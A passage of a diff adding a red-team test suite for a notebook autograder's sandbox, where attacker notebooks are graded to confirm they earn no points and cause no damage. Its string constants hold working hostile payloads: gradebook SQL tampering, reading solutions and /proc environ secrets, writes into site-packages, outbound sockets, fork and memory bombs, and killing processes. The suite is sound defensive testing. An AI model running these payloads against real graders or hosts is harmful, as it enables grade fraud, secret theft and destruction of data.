@@ -1,0 +1,1094 @@
+"""Red team: hostile and broken submissions through the real `python -m grader autograde`.
+
+One class is graded once (module fixture): a correct "victim" and one student folder per
+attack, mostly on 00_welcome (1 point), some on 01/02 where the attack needs them. Every
+attack must earn no undeserved points and do no collateral damage: the victim keeps full
+marks, the repository and the submissions are unchanged, the gradebook and grades.csv
+are intact, nothing leaks into feedback, the batch exits 0.
+
+The first version of this suite found eight holes (results read through a symlink or
+rewritten after the harvest, forbidden routines bound in ways the checker missed, files
+elsewhere on the host readable, timeouts and killed sandboxes not reported); each has a
+test below that now passes.
+"""
+import csv
+import hashlib
+import html as html_lib
+import os
+import re
+import secrets
+import socket
+import sqlite3
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from grader import submissions
+from grader.course import REPO
+from grader.sandbox import Limits
+
+pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the grader's sandbox needs root")
+
+A0, A1, A2 = "00_welcome", "01_signals_and_convolution", "02_image_convolution"
+TOKEN = secrets.token_hex(6)
+SECRET = f"grader-secret-{secrets.token_hex(12)}"
+VICTIM = "aa-victim"
+VICTIM_MARK = f"victim-private-marker-{TOKEN}"
+PLANTED = f"planted-instructor-file-{TOKEN}"
+# lines that exist only in instructor files: the solution notebook, the hidden cases'
+# reference and case generator; none may reach a student's feedback
+SOLUTION_LINES = ["out[i] = x[i:i + size]", "sliding_window_view(np.asarray(x, dtype=np.float64), size).copy()",
+                  "_sliding_windows_cases", "BEGIN HIDDEN TESTS", "def _conv1d_cases"]
+WATCHED = ["solutions", "notebooks", "grader", "data", "convcourse", "tests", "nbgrader_config.py",
+           "requirements.txt", "constraints.txt", "pyproject.toml", "course"]
+
+
+# --------------------------------------------------------------------------------------
+# code the attackers type into their notebooks ("@NAME@" is filled in by the fixture)
+
+WRONG_SW = '''
+def sliding_windows(x, size):
+    x = np.asarray(x, dtype=np.float64)
+    if x.ndim != 1 or not 1 <= size <= len(x):
+        raise ValueError("bad size")
+    return np.zeros((len(x) - size + 1, size))   # right shape, wrong values
+'''
+
+# allowed: numpy's own sliding windows are not a forbidden routine
+STRIDE_TRICKS = '''
+def sliding_windows(x, size):
+    x = np.asarray(x, dtype=np.float64)
+    if x.ndim != 1 or not 1 <= size <= len(x):
+        raise ValueError("bad size")
+    return np.lib.stride_tricks.sliding_window_view(x, size).copy()
+'''
+
+# only the visible tests' answers
+HARD_CODED = '''
+def sliding_windows(x, size):
+    x = np.asarray(x, dtype=np.float64)
+    if size > len(x):
+        raise ValueError("too long")
+    if x.tolist() == [1.0, 2.0, 3.0, 4.0] and size == 2:
+        return np.array([[1.0, 2.0], [2.0, 3.0], [3.0, 4.0]])
+    return np.zeros((len(x) - size + 1, size))
+'''
+
+SQL = '''
+import sqlite3
+_paths = [@GRADEBOOK@, "gradebook.db"] + ["../" * _i + "gradebook.db" for _i in range(1, 8)]
+_d = os.getcwd()
+while _d != "/":
+    _d = os.path.dirname(_d)
+    _paths.append(os.path.join(_d, "gradebook.db"))
+for _p in _paths:
+    try:
+        _con = sqlite3.connect(f"file:{_p}?mode=rw", uri=True, timeout=1)
+        _con.execute("UPDATE grade SET manual_score = 1000, extra_credit = 1000, needs_manual_grade = 0")
+        _con.execute("UPDATE grade_cells SET max_score = 1000")
+        _con.commit()
+        print("SQL-WROTE", _p)
+    except Exception as _e:
+        print("SQL-FAILED", _p, type(_e).__name__)
+'''
+
+READ_SOLUTIONS = '''
+import glob
+_targets = [@REPO@ + "/solutions/00_welcome/00_welcome.ipynb",
+            @OUT@ + "/.release/00_welcome/00_welcome.ipynb",
+            @OUT@ + "/submitted/@VICTIM@/00_welcome/00_welcome.ipynb",
+            @OUT@ + "/autograded/@VICTIM@/00_welcome/00_welcome.ipynb",
+            @OUT@ + "/.sandbox/@VICTIM@/00_welcome/00_welcome/in.ipynb",
+            @OUT@ + "/.sandbox/@VICTIM@/00_welcome/00_welcome/out.ipynb",
+            @SUB@ + "/@VICTIM@/00_welcome/00_welcome.ipynb",
+            os.getcwd() + "/../../../@VICTIM@/00_welcome/00_welcome/in.ipynb",
+            "/proc/1/root" + @REPO@ + "/solutions/00_welcome/00_welcome.ipynb"]
+_targets += [@REPO@ + f"/grader/hidden/{_n}.py" for _n in ("reference", "a00_welcome", "core", "__init__")]
+_targets += glob.glob("/tmp/**/*.py", recursive=True) + glob.glob("/tmp/**/*.ipynb", recursive=True)
+for _t in _targets:
+    try:
+        with open(_t) as _fh:
+            print("READ-OK", _t, _fh.read())
+    except OSError as _e:
+        print("READ-DENIED", _t, type(_e).__name__)
+print("LISTING", os.listdir("/work"), os.listdir("/tmp"))
+try:   # if the reference were readable, use it as the answer
+    _ns = {}
+    exec(open(@REPO@ + "/grader/hidden/reference.py").read(), _ns)
+    sliding_windows = _ns["sliding_windows"]
+except OSError as _e:
+    print("NO-REFERENCE", type(_e).__name__)
+'''
+
+ALWAYS_EQUAL = '''
+class _AlwaysEqual(np.ndarray):
+    __array_priority__ = 10**9
+    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
+    def __ne__(self, other): return np.zeros(np.shape(other), dtype=bool)
+    def __array_ufunc__(self, *args, **kwargs): return True
+    def __float__(self): return 0.0
+    def __len__(self): return 1
+    def all(self, *args, **kwargs): return True
+    def __bool__(self): return True
+
+class _Anything:
+    __array_priority__ = 10**9
+    shape = property(lambda self: _AnyShape())
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __array__(self, dtype=None, copy=None): return np.zeros((1, 1))
+    def __getattr__(self, name): return self
+
+class _AnyShape(tuple):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+
+def sliding_windows(x, size):
+    if size > len(x):
+        raise ValueError("too long")
+    if len(x) % 2:
+        return _Anything()
+    return np.zeros((len(x) - size + 1, size)).view(_AlwaysEqual)
+'''
+
+PATCH_NUMPY = WRONG_SW + '''
+np.allclose = lambda *a, **k: True
+np.array_equal = lambda *a, **k: True
+np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
+np.testing.assert_allclose = lambda *a, **k: None
+np.testing.assert_array_equal = lambda *a, **k: None
+np.all = lambda *a, **k: True
+np.abs = lambda a, *r, **k: np.zeros_like(np.asarray(a, dtype=float))
+import builtins
+builtins.AssertionError = type("NotAnError", (Exception,), {})
+print("PATCHED-NUMPY")
+'''
+
+FAKE_HARNESS = HARD_CODED + '''
+import sys, types
+def _harvest(name, func):
+    print(name + ": all hidden cases passed")
+try:                                   # the real one: its harvest replaced
+    import harness as _real
+    _real.harvest = _harvest
+    print("REAL-HARNESS-PATCHED")
+except Exception as _e:
+    print("NO-REAL-HARNESS", type(_e).__name__)
+with open("harness.py", "w") as _fh:   # one in the working folder
+    _fh.write("def harvest(name, func):\\n    print(name, 'passed')\\n")
+_fake = types.ModuleType("harness")    # and one in sys.modules
+_fake.harvest = _harvest
+sys.modules["harness"] = _fake
+for _n in ("grader", "grader.hidden"):
+    _m = types.ModuleType(_n)
+    _m.check = lambda *a, **k: None
+    sys.modules[_n] = _m
+def check(*args, **kwargs):
+    pass
+harvest = _harvest
+print("FAKE-HARNESS-INSTALLED")
+'''
+
+NOISY = '''
+import sys, warnings, logging
+warnings.warn("this cell is loud", UserWarning)
+warnings.warn("and deprecated", DeprecationWarning)
+logging.getLogger().warning("a logging warning")
+for _i in range(3000):
+    print("stdout line", _i, "x" * 100)
+    print("stderr line", _i, "y" * 100, file=sys.stderr)
+_right = sliding_windows
+def sliding_windows(x, size):
+    warnings.warn("called sliding_windows", RuntimeWarning)
+    print("computing windows " * 50)
+    print("to stderr " * 50, file=sys.stderr)
+    np.seterr(all="warn")
+    np.log(np.zeros(3))          # RuntimeWarning: divide by zero
+    return _right(x, size)
+'''
+
+LOOP_INSIDE = '''
+_right = sliding_windows
+def sliding_windows(x, size):
+    if len(x) > 5:        # the visible tests use short arrays; hidden cases never return
+        while True:
+            try:
+                while True:
+                    pass
+            except BaseException:   # not even an interrupt stops it
+                pass
+    return _right(x, size)
+'''
+
+FORK_BOMB = '''
+import os, time
+_children, _stopped = [], None
+for _ in range(1000):          # the guard: never more than 1000, whatever the limit does
+    try:
+        _pid = os.fork()
+    except OSError as _e:
+        _stopped = _e.errno
+        break
+    if _pid == 0:
+        try:
+            time.sleep(30)
+        finally:
+            os._exit(0)
+    _children.append(_pid)
+print(f"FORKS {len(_children)} STOPPED {_stopped}")
+'''
+
+HUGE_FILE = '''
+_chunk = b"\\0" * (16 * 2**20)
+_written = 0
+try:
+    with open("huge.bin", "wb") as _fh:
+        for _ in range(128):              # 2 GB
+            _fh.write(_chunk)
+            _written += len(_chunk)
+    print("HUGE-WROTE-ALL", _written)
+except OSError as _e:
+    print("HUGE-STOPPED", _written, _e.errno)
+'''
+
+SECRET_HUNT = '''
+import glob
+print("ENV", dict(os.environ))
+for _p in sorted(glob.glob("/proc/*/environ")) + sorted(glob.glob("/proc/*/cmdline")):
+    try:
+        print(_p, open(_p, "rb").read())
+    except OSError as _e:
+        print(_p, type(_e).__name__)
+for _p in ["/proc/1/root/proc/self/environ", "/proc/self/root/etc/environment", "/etc/environment"]:
+    try:
+        print(_p, open(_p, "rb").read()[:2000])
+    except OSError as _e:
+        print(_p, type(_e).__name__)
+'''
+
+# a folder outside the few the sandbox hides (/tmp, /root, /home, the repository's parent,
+# the submissions, OUT): another class's graded folder, a backup of solutions, ...
+HOST_FILES = '''
+import glob
+for _p in glob.glob("/var/tmp/red-team-@TOKEN@/**/*", recursive=True):
+    try:
+        print("READ-OK", _p, open(_p).read())
+    except OSError as _e:
+        print("READ-DENIED", _p, type(_e).__name__)
+print("HOST-FILES-DONE")
+'''
+
+WRITE_OUTSIDE = '''
+import glob, shutil
+_targets = [@REPO@ + "/notebooks/pwned-@TOKEN@.txt", @REPO@ + "/grader/pwned_@TOKEN@.py",
+            @REPO@ + "/solutions/00_welcome/pwned-@TOKEN@.txt", @REPO@ + "/pwned-@TOKEN@.txt",
+            "/tmp/pwned-@TOKEN@", "/var/tmp/pwned-@TOKEN@", "/dev/shm/pwned-@TOKEN@",
+            @OUT@ + "/pwned-@TOKEN@", @OUT@ + "/feedback/pwned-@TOKEN@", @SUB@ + "/pwned-@TOKEN@",
+            @SUB@ + "/@VICTIM@/00_welcome/pwned-@TOKEN@", "../../../pwned-@TOKEN@", "../../pwned-@TOKEN@",
+            "../pwned-@TOKEN@", @SITE@ + "/sitecustomize.py", @SITE@ + "/pwned-@TOKEN@.pth",
+            @DATA@ + "/pwned-@TOKEN@"]
+for _t in _targets:
+    try:
+        with open(_t, "w") as _fh:
+            _fh.write("pwned")
+        print("WROTE", _t)
+    except OSError as _e:
+        print("WRITE-DENIED", _t, type(_e).__name__)
+# append to files that exist
+for _t in [@REPO@ + "/grader/hidden/a00_welcome.py", @REPO@ + "/solutions/00_welcome/00_welcome.ipynb",
+           @REPO@ + "/notebooks/00_welcome/00_welcome.ipynb", @SITE@ + "/numpy/__init__.py",
+           @OUT@ + "/grades.csv", @OUT@ + "/gradebook.db", @SUB@ + "/@VICTIM@/00_welcome/00_welcome.ipynb"]:
+    try:
+        with open(_t, "a") as _fh:
+            _fh.write("\\nraise SystemExit('pwned')\\n")
+        print("APPENDED", _t)
+    except OSError as _e:
+        print("APPEND-DENIED", _t, type(_e).__name__)
+for _t in [@REPO@ + "/grader", @SUB@ + "/@VICTIM@", @OUT@ + "/feedback"]:
+    try:
+        shutil.rmtree(_t)
+        print("REMOVED", _t)
+    except OSError as _e:
+        print("REMOVE-DENIED", _t, type(_e).__name__)
+'''
+
+NETWORK = '''
+import socket, time
+_t0 = time.monotonic()
+_hosts = [("127.0.0.1", @PORT@), ("localhost", @PORT@), ("8.8.8.8", 53), ("1.1.1.1", 443), ("10.0.0.1", 80)]
+try:
+    _hosts += [(_a, @PORT@) for _a in socket.gethostbyname_ex(socket.gethostname())[2]]
+except OSError:
+    pass
+for _h in _hosts:
+    try:
+        _s = socket.create_connection(_h, timeout=2)
+        _s.sendall(b"red team was here")
+        print("CONNECTED", _h)
+    except OSError as _e:
+        print("NO-CONNECTION", _h, type(_e).__name__)
+try:
+    _u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    _u.settimeout(2)
+    _u.connect(@ABSTRACT@)
+    print("CONNECTED abstract unix socket")
+except OSError as _e:
+    print("NO-CONNECTION abstract", type(_e).__name__)
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))
+    print("UDP-SENT")
+except OSError as _e:
+    print("NO-UDP", type(_e).__name__)
+print("NETWORK-DONE in", round(time.monotonic() - _t0, 1), "s")
+'''
+
+MEMORY_BOMB = '''
+try:
+    _hog = np.ones(10**9)                  # 8 GB
+    print("ALLOCATED 8 GB")
+except MemoryError:
+    print("MEMORYERROR-BIG")
+_hogs = []
+try:
+    for _ in range(1000):                  # 80 MB at a time, up to 80 GB
+        _hogs.append(np.ones(10**7))
+except MemoryError:
+    print("MEMORYERROR-GRADUAL", len(_hogs))
+del _hogs
+_hog = np.ones(10**9)                      # uncaught
+'''
+
+FORGE = '''
+import json
+os.makedirs("results", exist_ok=True)
+with open(os.environ["HARNESS_CASES"] + "/sliding_windows.json") as _fh:
+    _n = len(json.load(_fh)["cases"])
+np.savez("results/sliding_windows.npz", **{f"case{_i}": np.zeros((3, 2)) for _i in range(_n)})
+with open("results/sliding_windows.json", "w") as _fh:
+    json.dump({"name": "sliding_windows", "passed": True, "score": 1, "verdict": "all passed",
+               "records": [{"type": "ndarray", "passed": True} for _ in range(_n)]}, _fh)
+print("FORGED")
+'''
+
+# results computed on the hidden inputs (which the sandbox can read) by code that is not
+# the graded function, published as the harness would, from a later cell: `call` stands
+# for whatever the attacker uses (np.convolve, say)
+FORGE_COMPUTED = '''
+import json
+def _forge(name, call):
+    cases_dir = os.environ["HARNESS_CASES"]
+    with open(f"{cases_dir}/{name}.json") as fh:
+        spec = json.load(fh)
+    arrays = np.load(f"{cases_dir}/{name}.npz")
+    dec = lambda v: arrays[v["array"]] if isinstance(v, dict) and "array" in v else v
+    records, outs = [], {}
+    for i, case in enumerate(spec["cases"]):
+        try:
+            outs[f"case{i}"] = np.asarray(call(*map(dec, case["args"]),
+                                               **{k: dec(v) for k, v in case["kwargs"].items()}), dtype=float)
+            records.append({"type": "ndarray"})
+        except Exception as e:
+            records.append({"raised": type(e).__name__})
+    import base64, io
+    from IPython.display import publish_display_data
+    buffer = io.BytesIO()
+    np.savez(buffer, **outs)
+    publish_display_data({"application/x-conv-course-results+json": {
+        "name": name, "records": records, "npz": base64.b64encode(buffer.getvalue()).decode()}})
+    print("FORGED-COMPUTED", name)
+'''
+
+FORGE_SW = FORGE_COMPUTED + '''
+def _windows(x, size):
+    from numpy.lib.stride_tricks import sliding_window_view
+    if np.ndim(x) != 1 or not 1 <= size <= len(x):
+        raise ValueError("bad")
+    return sliding_window_view(np.asarray(x, dtype=float), size)
+_forge("sliding_windows", _windows)
+'''
+
+# after harvest: point results/ at another student's results folder on the host
+STEAL_RESULTS = '''
+import shutil
+shutil.rmtree("results", ignore_errors=True)
+os.symlink(os.path.join(os.getcwd(), "..", "..", "..", "@VICTIM@", "00_welcome", "00_welcome", "results"), "results")
+print("RESULTS-LINKED", os.readlink("results"))
+'''
+
+KILLER = '''
+import os, signal
+_me = os.getpid()
+for _p in os.listdir("/proc"):
+    if _p.isdigit() and int(_p) != _me:
+        try:
+            os.kill(int(_p), signal.SIGKILL)
+            print("KILLED", _p)
+        except OSError as _e:
+            print("KILL-DENIED", _p, type(_e).__name__)
+os.kill(-1, signal.SIGKILL)
+'''
+
+# 01: forbidden routines, spelled so that the grader sees them ...
+CONV_DIRECT = '''
+def conv1d(x, k, mode="full"):
+    x, k = np.asarray(x, dtype=np.float64), np.asarray(k, dtype=np.float64)
+    return np.convolve(x, k, mode=mode)
+'''
+CORR_ALIAS = '''
+_corr = np.correlate
+def correlate1d(x, k):
+    x, k = np.asarray(x, dtype=np.float64), np.asarray(k, dtype=np.float64)
+    if x.ndim != 1 or k.ndim != 1 or len(k) == 0 or len(k) > len(x):
+        raise ValueError("bad input")
+    return _corr(x, k, mode="valid")
+'''
+CONV_GETATTR = '''
+def conv1d(x, k, mode="full"):
+    x, k = np.asarray(x, dtype=np.float64), np.asarray(k, dtype=np.float64)
+    return getattr(np, "con" + "volve")(x, k, mode=mode)
+'''
+CORR_GETATTR_ALIAS = '''
+_c = getattr(np, "corre" + "late")
+def correlate1d(x, k):
+    x, k = np.asarray(x, dtype=np.float64), np.asarray(k, dtype=np.float64)
+    if x.ndim != 1 or k.ndim != 1 or len(k) == 0 or len(k) > len(x):
+        raise ValueError("bad input")
+    return _c(x, k, mode="valid")
+'''
+# ... and spelled so that it does not (a default argument binds np.convolve before the
+# harness's tripwires are set; a name bound by anything but `def` is never inspected,
+# and the tripwires are the harness's own, which the notebook can switch off)
+CONV_DEFAULT_ARG = '''
+def conv1d(x, k, mode="full", _conv=np.convolve):
+    x, k = np.asarray(x, dtype=np.float64), np.asarray(k, dtype=np.float64)
+    if mode not in ("full", "same", "valid") or x.ndim != 1 or k.ndim != 1 or not len(x) or not len(k):
+        raise ValueError("bad input")
+    return _conv(x, k, mode=mode)
+'''
+CORR_TRIPWIRES_OFF = '''
+import harness
+harness.FORBIDDEN.clear()
+def _checked(x, k):
+    x, k = np.asarray(x, dtype=np.float64), np.asarray(k, dtype=np.float64)
+    if x.ndim != 1 or k.ndim != 1 or len(k) == 0 or len(k) > len(x):
+        raise ValueError("bad input")
+    return x, k
+correlate1d = lambda x, k: np.correlate(*_checked(x, k), mode="valid")
+'''
+# conv1d itself is clean numpy, right on the visible tests and wrong on longer inputs;
+# a later cell overwrites its recorded results with np.convolve's
+CONV_WRONG_ON_HIDDEN = '''
+def conv1d(x, k, mode="full"):
+    x, k = np.asarray(x, dtype=np.float64), np.asarray(k, dtype=np.float64)
+    if mode not in ("full", "same", "valid") or x.ndim != 1 or k.ndim != 1 or not len(x) or not len(k):
+        raise ValueError("bad input")
+    n, m = len(x), len(k)
+    full = np.zeros(n + m - 1)
+    for i in range(n):
+        full[i:i + m] += x[i] * k
+    if n > 4:
+        full = full[::-1]           # wrong on every input longer than the visible tests'
+    if mode == "full":
+        return full
+    length = max(n, m) if mode == "same" else max(n, m) - min(n, m) + 1
+    start = (n + m - 1 - length) // 2 if mode == "same" else min(n, m) - 1
+    return full[start:start + length]
+'''
+FORGE_CONV = FORGE_COMPUTED + '''
+_forge("conv1d", np.convolve)
+'''
+
+
+# --------------------------------------------------------------------------------------
+# helpers
+
+def run_grader(*args, env_extra=None):
+    env = dict(os.environ, PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
+               **(env_extra or {}))
+    return subprocess.run([sys.executable, "-m", "grader", *map(str, args)], cwd=REPO, env=env,
+                          capture_output=True, text=True, timeout=1200)
+
+
+def tree_hash(paths) -> dict[str, str]:
+    """sha256 of every file under `paths` (bytecode caches aside)."""
+    digests = {}
+    for top in paths:
+        top = REPO / top
+        files = [top] if top.is_file() else sorted(p for p in top.rglob("*") if p.is_file())
+        for path in files:
+            if "__pycache__" in path.parts or path.suffix == ".pyc" or ".ipynb_checkpoints" in path.parts:
+                continue
+            digests[str(path.relative_to(REPO))] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return digests
+
+
+def dir_hash(top: Path) -> dict[str, str]:
+    return {str(p.relative_to(top)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(top.rglob("*")) if p.is_file()}
+
+
+def cell_index(nb, grade_id):
+    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+
+
+def add_cell_after(nb, grade_id, source):
+    """A new (ungraded) code cell right after the cell `grade_id`, as a student adds one."""
+    cell = nbformat.v4.new_code_cell(source)
+    nb.cells.insert(cell_index(nb, grade_id) + 1, cell)
+    return nb
+
+
+class Listener:
+    """A TCP server on every host address and an abstract unix socket: the sandbox must
+    reach neither."""
+
+    def __init__(self):
+        self.tcp = socket.socket()
+        self.tcp.bind(("0.0.0.0", 0))
+        self.tcp.listen()
+        self.port = self.tcp.getsockname()[1]
+        self.abstract = f"\0red-team-{TOKEN}"
+        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        self.unix.bind(self.abstract)
+        self.unix.listen()
+        self.connections = []
+        self.stopped = False
+        for sock in (self.tcp, self.unix):
+            sock.settimeout(0.5)
+            threading.Thread(target=self._accept, args=(sock,), daemon=True).start()
+
+    def _accept(self, sock):
+        while not self.stopped:
+            try:
+                conn, addr = sock.accept()
+            except (socket.timeout, OSError):
+                continue
+            self.connections.append(addr)
+            conn.close()
+
+    def close(self):
+        self.stopped = True
+        time.sleep(0.6)
+        self.tcp.close()
+        self.unix.close()
+
+
+def sub_code(code: str, values: dict) -> str:
+    for key, value in values.items():
+        code = code.replace(f"@{key}@", value)
+    assert not re.search(r"@[A-Z]+@", code), code
+    return code
+
+
+# --------------------------------------------------------------------------------------
+# the class
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory, request):
+    root = tmp_path_factory.mktemp("redteam")
+    sub, out = root / "submitted", root / "out"
+    site = next(Path(p) for p in sys.path if p.endswith("site-packages") and p.startswith(sys.prefix))
+    listener = Listener()
+    values = {"GRADEBOOK": repr(str(out / "gradebook.db")), "REPO": repr(str(REPO)), "OUT": repr(str(out)),
+              "SUB": repr(str(sub)), "VICTIM": VICTIM, "TOKEN": TOKEN, "SITE": repr(str(site)),
+              "DATA": repr(str(REPO / "data")), "PORT": str(listener.port), "ABSTRACT": repr(listener.abstract)}
+    attacks = {}  # student -> (assignment, notebook)
+
+    def add(student, nb, aid=A0):
+        submissions.write(nb, sub / student / aid / f"{aid}.ipynb")
+        attacks[student] = aid
+
+    def code(text):
+        return sub_code(text, values)
+
+    sw = "sliding_windows"
+    add(VICTIM, submissions.filled(A0, extra={sw: f"# {VICTIM_MARK}"}))
+    add("sql", submissions.filled(A0, solved=False, extra={sw: "import os\n" + code(SQL)}))
+    add("read-solutions", submissions.filled(A0, solved=False, extra={sw: "import os\n" + code(READ_SOLUTIONS)}))
+    add("always-equal", submissions.filled(A0, extra={sw: ALWAYS_EQUAL}))
+    add("patch-numpy", submissions.filled(A0, extra={sw: PATCH_NUMPY}))
+    add("fake-harness", submissions.filled(A0, extra={sw: FAKE_HARNESS}))
+    add("hard-coded", submissions.filled(A0, extra={sw: HARD_CODED}))
+    add("stride-tricks", submissions.filled(A0, extra={sw: STRIDE_TRICKS}))
+    add("noisy", submissions.filled(A0, extra={sw: NOISY}))
+    add("loop-after", add_cell_after(submissions.filled(A0), "test_sliding_windows", "while True:\n    pass"))
+    add("loop-inside", submissions.filled(A0, extra={sw: LOOP_INSIDE}))
+    add("fork-bomb", add_cell_after(submissions.filled(A0), "test_sliding_windows", FORK_BOMB))
+    add("huge-file", submissions.filled(A0, extra={sw: HUGE_FILE}))
+    add("sys-exit", add_cell_after(submissions.filled(A0), "test_sliding_windows",
+                                   "import sys\nprint('EXITING')\nsys.exit(0)"))
+    add("os-exit", add_cell_after(submissions.filled(A0), "test_sliding_windows",
+                                  "import os\nprint('EXITING', flush=True)\nos._exit(0)"))
+    add("secret", submissions.filled(A0, solved=False, extra={sw: "import os\n" + SECRET_HUNT}))
+    add("write-outside", submissions.filled(A0, solved=False, extra={sw: "import os\n" + code(WRITE_OUTSIDE)}))
+    add("host-files", submissions.filled(A0, solved=False, extra={sw: code(HOST_FILES)}))
+    nb = submissions.filled(A0)
+    nb.cells[cell_index(nb, "test_sliding_windows")].source = "pass"
+    add("test-cell-pass", nb)
+    nb = submissions.filled(A0)
+    cell = nb.cells[cell_index(nb, sw)]
+    cell.source = cell.source.replace("def sliding_windows(", "def sliding_window(")
+    add("renamed", nb)
+    add("network", submissions.filled(A0, solved=False, extra={sw: code(NETWORK)}))
+    add("memory-bomb", add_cell_after(submissions.filled(A0), "test_sliding_windows", MEMORY_BOMB))
+    nb = submissions.filled(A0, extra={sw: "import os\n" + HARD_CODED + FORGE})
+    add("forged-results", add_cell_after(nb, "test_sliding_windows", "import os\n" + FORGE))
+    nb = submissions.filled(A0, extra={sw: HARD_CODED})
+    add("forged-computed", add_cell_after(nb, "test_sliding_windows", "import os\n" + FORGE_SW))
+    nb = submissions.filled(A0, extra={sw: HARD_CODED})
+    add("zz-steal-results", add_cell_after(nb, "test_sliding_windows", "import os\n" + code(STEAL_RESULTS)))
+    add("killer", add_cell_after(submissions.filled(A0), "test_sliding_windows", KILLER))
+    # metadata: a test cell worth 1000 points, and a new graded cell of its own worth 100
+    nb = submissions.filled(A0, extra={sw: HARD_CODED})
+    nb.cells[cell_index(nb, "test_sliding_windows")].metadata.nbgrader["points"] = 1000
+    add_cell_after(nb, "test_sliding_windows", "print('bonus')")
+    nb.cells[cell_index(nb, "test_sliding_windows") + 1].metadata["nbgrader"] = {
+        "grade": True, "grade_id": "bonus", "points": 100, "locked": False, "solution": False,
+        "schema_version": 3, "task": False}
+    add("metadata", nb)
+    # 01: forbidden routines
+    add("forbid-direct", submissions.filled(A1, extra={"conv1d": CONV_DIRECT, "correlate1d": CORR_ALIAS}), A1)
+    add("forbid-getattr", submissions.filled(A1, extra={"conv1d": CONV_GETATTR,
+                                                        "correlate1d": CORR_GETATTR_ALIAS}), A1)
+    add("forbid-bypass", submissions.filled(A1, extra={"conv1d": CONV_DEFAULT_ARG,
+                                                       "correlate1d": CORR_TRIPWIRES_OFF}), A1)
+    nb = submissions.filled(A1, extra={"conv1d": CONV_WRONG_ON_HIDDEN})
+    add("forbid-forged", add_cell_after(nb, "test_conv1d", "import os\n" + FORGE_CONV), A1)
+    # 02: one test cell deleted, one turned into markdown, one left alone
+    nb = submissions.filled(A2)
+    del nb.cells[cell_index(nb, "test_correlate2d")]
+    test_conv = nb.cells[cell_index(nb, "test_convolve2d")]
+    nb.cells[cell_index(nb, "test_convolve2d")] = nbformat.v4.new_markdown_cell(
+        test_conv.source, metadata=test_conv.metadata, id=test_conv.get("id"))
+    add("test-cells-tampered", nb, A2)
+
+    planted = Path(f"/var/tmp/red-team-{TOKEN}")
+    (planted / "solutions" / A0).mkdir(parents=True)
+    (planted / "solutions" / A0 / "answer.txt").write_text(f"{PLANTED}\n")
+    request.addfinalizer(lambda: __import__("shutil").rmtree(planted, ignore_errors=True))
+
+    repo_before = tree_hash(WATCHED)
+    sub_before = dir_hash(sub)
+    numpy_init = hashlib.sha256((site / "numpy" / "__init__.py").read_bytes()).hexdigest()
+    start = time.monotonic()
+    try:
+        proc = run_grader("autograde", sub, "--out", out, "--jobs", 2, "--cell-timeout", 10,
+                          "--notebook-timeout", 90, env_extra={"GRADER_SECRET": SECRET})
+    finally:
+        listener.close()
+    elapsed = time.monotonic() - start
+    with open(out / "grades.csv") as fh:
+        rows = list(csv.DictReader(fh))
+    with open(out / "problems.csv") as fh:
+        problems = list(csv.DictReader(fh))
+    return {
+        "root": root, "sub": sub, "out": out, "proc": proc, "rows": rows, "problems": problems,
+        "scores": {(r["student_id"], r["assignment"]): float(r["score"]) for r in rows},
+        "attacks": attacks, "elapsed": elapsed, "site": site, "listener": listener,
+        "repo_before": repo_before, "repo_after": tree_hash(WATCHED),
+        "sub_before": sub_before, "sub_after": dir_hash(sub),
+        "numpy_init": (numpy_init, hashlib.sha256((site / "numpy" / "__init__.py").read_bytes()).hexdigest()),
+    }
+
+
+TWICE = [VICTIM, "hard-coded", "loop-inside", "fork-bomb", "killer", "os-exit", "memory-bomb", "forbid-direct"]
+
+
+def cell_grades(out: Path, pairs) -> dict:
+    """(student, assignment, test cell) -> score, from the gradebook."""
+    from nbgrader.api import Gradebook
+    grades = {}
+    with Gradebook(f"sqlite:///{out / 'gradebook.db'}") as gb:
+        for student, aid in pairs:
+            for grade in gb.find_submission_notebook(aid, aid, student).grades:
+                grades[(student, aid, grade.name)] = float(grade.score)
+    return grades
+
+
+@pytest.fixture(scope="module")
+def regraded(graded):
+    """The victim and the attackers most likely to be timing-dependent, graded again."""
+    import shutil
+    sub2, out2 = graded["root"] / "submitted-again", graded["root"] / "out-again"
+    for student in TWICE:
+        shutil.copytree(graded["sub"] / student, sub2 / student)
+    proc = run_grader("autograde", sub2, "--out", out2, "--jobs", 2, "--cell-timeout", 10,
+                      "--notebook-timeout", 90)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    with open(out2 / "problems.csv") as fh:
+        problems = [(p["student_id"], p["assignment"], p["problem"]) for p in csv.DictReader(fh)]
+    return {"out": out2, "problems": sorted(problems)}
+
+
+def score(graded, student, aid=A0):
+    return graded["scores"][(student, aid)]
+
+
+def total(aid):
+    return submissions.points(aid)["total"]
+
+
+def cell_score(graded, student, aid, test_cell):
+    from nbgrader.api import Gradebook
+    with Gradebook(f"sqlite:///{graded['out'] / 'gradebook.db'}") as gb:
+        return float(gb.find_grade(test_cell, aid, aid, student).score)
+
+
+def feedback(graded, student, aid=A0):
+    """What a reader of the feedback HTML sees: tags stripped, entities decoded."""
+    path = graded["out"] / "feedback" / student / aid / f"{aid}.html"
+    return html_lib.unescape(re.sub(r"<[^>]+>", "", path.read_text()))
+
+
+def outputs(graded, student, aid=A0):
+    """Every output text of the autograded notebook (what ran in the sandbox)."""
+    nb = nbformat.read(graded["out"] / "autograded" / student / aid / f"{aid}.ipynb", as_version=4)
+    parts = []
+    for cell in nb.cells:
+        for o in cell.get("outputs", []):
+            parts.append(o.get("text", "") if isinstance(o.get("text"), str) else "")
+            parts += [str(v) for v in o.get("data", {}).values()]
+            parts += [o.get("ename", ""), o.get("evalue", "")] + list(o.get("traceback", []))
